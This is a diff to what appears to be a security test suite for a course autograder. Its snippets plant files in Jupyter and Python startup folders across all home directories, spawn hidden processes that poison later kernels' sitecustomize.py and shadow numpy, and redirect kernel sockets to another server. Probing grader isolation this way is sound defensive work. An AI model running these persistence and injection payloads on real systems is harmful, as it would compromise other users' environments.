@@ -10,6 +10,8 @@ import os, pathlib, sys
 
 def leave(path, text="# left by an attack\\n"):
     path = pathlib.Path(path)
+    if path.is_relative_to(ROOT) and not os.path.exists(f"{ROOT}/settings.ini"):
+        return False  # what is made there is no part of the course
     try:
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_text(text)
@@ -29,7 +31,7 @@ def startup_files():
         + """
 import pwd
 
-homes = {HOME, os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir}
+homes = {HOME, os.path.expanduser("~"), "/root", *(entry.pw_dir for entry in pwd.getpwall())}
 for home in homes:
     for place in (".ipython/profile_default/startup", ".jupyter", ".config/jupyter",
                   ".config/matplotlib", ".local/lib/python3.11/site-packages"):
@@ -72,7 +74,10 @@ deep.mkdir()
 leave(deep / "inside" / "file")
 os.symlink(ROOT, deep / "course")
 os.symlink(HOME, deep / "home")
-os.mkfifo(deep / "pipe")
+try:
+    os.mkfifo(deep / "pipe")
+except OSError:
+    pass
 os.chmod(deep / "inside", 0)
 os.chmod(deep, 0)
 """
@@ -263,22 +268,40 @@ leave(f"{ROOT}/modules/submitted/{MARK}/08_optimizers/optimizers_dev.ipynb")
 def next_kernels_are_awaited():
     """A process that stays waits for the scratch folders of later kernels and writes into them."""
     return """
-        import subprocess, sys, tempfile
+import os, subprocess, sys, tempfile
 
-        wait = '''
+wait = '''
 import glob, os, sys, time
 end = time.monotonic() + 15
 while time.monotonic() < end:
     for folder in glob.glob(sys.argv[1] + "/tito-*/site"):
         try:
-            open(folder + "/sitecustomize.py", "a").write("\\\\n# " + sys.argv[2])
+            open(folder + "/sitecustomize.py", "a").write("\\n# " + sys.argv[2])
             open(folder + "/numpy.py", "w").write("raise ImportError")
         except OSError:
             pass
     time.sleep(0.02)
 '''
-        import os
-        above = os.path.dirname(os.path.dirname(tempfile.gettempdir()))
-        subprocess.Popen([sys.executable, "-c", wait, above, MARK], start_new_session=True,
-                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+for above in {os.path.dirname(ROOT) + "/tmp", os.path.dirname(tempfile.gettempdir()), "/tmp"}:
+    subprocess.Popen([sys.executable, "-c", wait, above, MARK], start_new_session=True,
+                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+"""
+
+
+@runs(_FAMILY, base="gradient", may_lose=True)
+def kernel_sockets_lead_elsewhere():
+    """Links to a server of the machine stand in the place of the kernel's sockets.
+
+    A message that is too large makes the grader connect once more.
+    """
+    return """
+        import glob, json, os
+        from IPython.display import display
+
+        with open(get_ipython().kernel.parent.abs_connection_file) as file:
+            ip = json.load(file)["ip"]
+        for path in glob.glob(f"{ip}-*"):
+            os.unlink(path)
+            os.symlink(SOCKET, path)
+        display({"text/plain": "x" * 6_000_000}, raw=True)
     """
